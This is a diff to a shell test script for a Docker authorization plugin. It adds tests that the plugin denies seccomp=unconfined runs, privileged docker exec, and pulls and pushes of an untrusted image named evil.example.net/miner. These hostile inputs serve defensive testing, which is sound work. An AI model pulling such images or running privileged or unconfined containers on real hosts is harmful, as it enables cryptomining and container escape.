@@ -10,6 +10,8 @@
 #     has fixable vulnerabilities) is denied with the finding named, and a
 #     clean image (busybox only) runs.
 #  3. Every decision is one JSON line in the audit log.
+#  Also: --security-opt seccomp=unconfined, a privileged `docker exec`, and
+#  a pull and a push of an untrusted image are denied (a plain exec runs).
 . "$(dirname "$0")/lib.sh"
 need_moat
 setup_work
@@ -49,6 +51,8 @@ rules:
   host_devices: {action: block, allow: [/dev/fuse]}
   host_userns: block
   host_cgroupns: block
+  seccomp_unconfined: block
+  trusted_images: {action: block, repos: ["docker.io/admission/*", "docker.io/moat-test/*"]}
 EOT
 
 # start_authz POLICY: (re)start the plugin on the socket dockerd knows.
@@ -132,6 +136,26 @@ try userns --userns host admission/clean:1 /bin/busybox true
 denied userns "host_userns"
 try cgroupns --cgroupns host admission/clean:1 /bin/busybox true
 denied cgroupns "host_cgroupns: shares the host cgroup namespace"
+try seccomp --security-opt seccomp=unconfined admission/clean:1 /bin/busybox true
+denied seccomp "seccomp_unconfined"
+# docker exec: a privileged exec is denied, a plain one runs
+t_x=$(date +%s%N)
+D run -d --network none --name madm-exec admission/clean:1 /bin/busybox sleep 120 >/dev/null \
+    2>"$W/exec-run.err" || fail "container for exec: $(cat "$W/exec-run.err")"
+RC=0; D exec --privileged madm-exec /bin/busybox true >/dev/null 2>"$W/execpriv.err" || RC=$?
+denied execpriv "privileged"
+out=$(D exec madm-exec /bin/busybox echo exec-ran 2>"$W/exec.err") ||
+    fail "a plain exec was denied: $(cat "$W/exec.err")"
+[ "$out" = exec-ran ] || fail "plain exec printed '$out'"
+D rm -f madm-exec >/dev/null 2>&1
+# pulls and pushes: only trusted_images speaks (the denial comes before any network)
+RC=0; D pull evil.example.net/miner:1 >/dev/null 2>"$W/pull.err" || RC=$?
+denied pull "trusted_images: image evil.example.net/miner:1"
+D tag admission/clean:1 evil.example.net/miner:2 || fail "docker tag"
+RC=0; D push evil.example.net/miner:2 >/dev/null 2>"$W/push.err" || RC=$?
+denied push "trusted_images: image evil.example.net/miner:2"
+D rmi evil.example.net/miner:2 >/dev/null 2>&1 || true
+note "exec, pull and push checks: $(( ($(date +%s%N) - t_x) / 1000000 )) ms"
 # --volumes-from inherits the source's mounts: the mount rules see them.
 D create --network none --name madm-src1 -v "$W/clean:/data:ro" admission/clean:1 \
     /bin/busybox true >/dev/null 2>"$W/src.err" || fail "source container: $(cat "$W/src.err")"
@@ -182,12 +206,15 @@ deny = [l for l in lines if not l["allow"]]
 allow = [l for l in lines if l["allow"]]
 rules = {r["rule"] for l in deny for r in l["reasons"]}
 need = {"privileged", "engine_socket", "host_pid", "cap_add", "vulnerabilities",
-        "host_devices", "host_userns", "host_cgroupns"}
+        "host_devices", "host_userns", "host_cgroupns", "seccomp_unconfined", "trusted_images"}
 assert need <= rules, f"missing denials for {need - rules}"
+acts = {l["action"] for l in deny}
+assert {"create", "exec", "pull", "push"} <= acts, f"denied actions: {acts}"
+assert any(l["action"] == "exec" for l in allow), "no allowed exec in the audit log"
 assert all(l["source"] == "docker" and l["time"].endswith("Z") for l in lines)
 print(f"admit_docker: {len(lines)} audit lines, {len(deny)} denied, {len(allow)} allowed", file=sys.stderr)
 PY
 kill "$APID"; wait "$APID" || fail "moat authz exited $? on SIGTERM"
 APID=
 [ -e "$plugin" ] && fail "plugin socket left behind"
-pass "privileged, engine socket (also inherited by --volumes-from), host pid, cap_add, devices, userns/cgroupns host and vulnerable image denied with reasons; clean image runs"
+pass "privileged, privileged exec, seccomp unconfined, untrusted pull/push, engine socket (also inherited by --volumes-from), host pid, cap_add, devices, userns/cgroupns host and vulnerable image denied with reasons; clean image runs"
